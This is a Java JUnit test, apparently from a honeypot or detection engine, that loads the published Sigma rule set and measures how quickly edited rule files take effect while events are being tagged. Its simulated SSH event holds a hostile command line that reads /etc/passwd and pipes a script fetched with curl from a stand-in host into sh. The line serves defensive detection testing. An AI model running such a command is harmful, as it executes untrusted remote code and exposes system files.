package org.decnet.store;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.DataInputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.concurrent.BlockingQueue;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.LinkedBlockingQueue;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.zip.GZIPInputStream;
import org.decnet.attack.AttackCatalog;
import org.decnet.attack.AttackCatalogs;
import org.decnet.engine.live.RuleFolder;
import org.decnet.engine.port.RuleChange;
import org.decnet.engine.port.RuleStateStore;
import org.decnet.engine.port.RuleStore;
import org.decnet.engine.tag.RuleFileReader;
import org.decnet.engine.tag.RulePack;
import org.decnet.engine.tag.RulePackLoader;
import org.decnet.engine.tag.Tagger;
import org.decnet.engine.tag.TaggingListener;
import org.decnet.model.error.Problem;
import org.decnet.store.rules.FolderRuleStore;
import org.decnet.testkit.Scene;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledIfSystemProperty;
import org.junit.jupiter.api.io.TempDir;

/**
 * A changed file among all the rules that the Sigma project publishes is live while events come.
 */
@org.junit.jupiter.api.Tag("corpora")
@EnabledIfSystemProperty(named = "decnet.sigma", matches = ".+")
class PublishedRulesReloadTest {
  private static final int BLOCK = 512;
  private static final int CHANGES = 20;
  private static final AttackCatalog ATTACK = new AttackCatalogs().load();

  @TempDir Path folder;
  private final BlockingQueue<RuleChange> heard = new LinkedBlockingQueue<>();

  @Test
  void aChangedFileIsLiveWhileEventsAreTagged() throws Exception {
    List<Path> files = unpack();
    long opened = System.nanoTime();
    RuleFolder start = RuleFolder.beside(RulePack.EMPTY, new RuleFileReader(ATTACK));
    try (RuleStore rules =
            FolderRuleStore.open(folder, start, RuleStateStore.NONE, () -> StoreContract.NOW);
        ExecutorService threads = Executors.newSingleThreadExecutor()) {
      print(loaded(files.size(), rules.loadCompiled(), System.nanoTime() - opened));
      rules.subscribeChanges(heard::add);
      AtomicBoolean stopped = new AtomicBoolean();
      Future<Long> evaluations = threads.submit(() -> tagUntil(stopped, rules));
      try {
        measure("linux, process_creation", files, "product: linux", "category: process_creation");
        measure("webserver", files, "category: webserver");
        measure("windows (sleeping)", files, "product: windows", "category: registry_set");
      } finally {
        stopped.set(true);
      }
      print(evaluations.get() + " events tagged meanwhile");
      assertThat(evaluations.get()).isPositive();
    }
  }

  private void measure(String what, List<Path> files, String... words) throws Exception {
    Path file = fileWith(files, words);
    String text = Files.readString(file);
    List<Long> millis = new ArrayList<>();
    for (int i = 0; i < CHANGES; i++) {
      long before = System.nanoTime();
      Files.writeString(file, text.replace("title: ", "title: Change " + i + " of "));
      RuleChange change = Objects.requireNonNull(heard.poll(60, TimeUnit.SECONDS), "not told");
      millis.add((System.nanoTime() - before) / 1_000_000);
      assertThat(change).isInstanceOf(RuleChange.Loaded.class);
    }
    millis.sort(null);
    print(
        what
            + ": live after "
            + millis.get(CHANGES / 2)
            + " ms (median), "
            + millis.getLast()
            + " ms (longest of "
            + CHANGES
            + ")");
  }

  private static String loaded(int files, RulePackLoader.Loaded loaded, long nanos) {
    long rejected = loaded.problems().stream().map(Problem::path).distinct().count();
    return files
        + " files: "
        + loaded.pack().rules().size()
        + " rules, "
        + rejected
        + " files rejected, "
        + loaded.warnings().size()
        + " warnings, "
        + nanos / 1_000_000
        + " ms";
  }

  private static long tagUntil(AtomicBoolean stopped, RuleStore rules) {
    Tagger tagger = new Tagger(rules::active, ATTACK, TaggingListener.SILENT);
    Scene scene = Scene.ssh("web-1", "s1", "198.51.100.7");
    long events = 0;
    while (!stopped.get()) {
      tagger.tag(scene.command(1, "cat /etc/passwd; whoami; curl -s http://192.0.2.1/x | sh"));
      events++;
    }
    return events;
  }

  private static Path fileWith(List<Path> files, String... words) throws IOException {
    for (Path file : files) {
      String text = Files.readString(file);
      if (List.of(words).stream().allMatch(text::contains)) {
        return file;
      }
    }
    throw new IllegalStateException("no rule with " + List.of(words));
  }

  private List<Path> unpack() throws IOException {
    Path archive = Path.of(System.getProperty("decnet.sigma", ""), "sigma-rules.tar.gz");
    List<Path> files = new ArrayList<>();
    try (DataInputStream in =
        new DataInputStream(new GZIPInputStream(Files.newInputStream(archive)))) {
      byte[] header = new byte[BLOCK];
      for (in.readFully(header); header[0] != 0; in.readFully(header)) {
        int size = Integer.parseInt(text(header, 124, 11).strip(), 8);
        byte[] content = in.readNBytes(size);
        in.skipNBytes((BLOCK - size % BLOCK) % BLOCK);
        if (header[156] == '0' && !text(header, 0, 100).endsWith("LICENSE")) {
          Path below = Files.createDirectories(folder.resolve("part" + files.size() % 40));
          files.add(Files.write(below.resolve("rule" + files.size() + ".yml"), content));
        }
      }
    }
    return files;
  }

  private static String text(byte[] header, int offset, int length) {
    String text = new String(header, offset, length, StandardCharsets.UTF_8);
    int end = text.indexOf('\0');
    return end < 0 ? text : text.substring(0, end);
  }

  private static void print(String line) {
    System.out.println(line);
  }
}
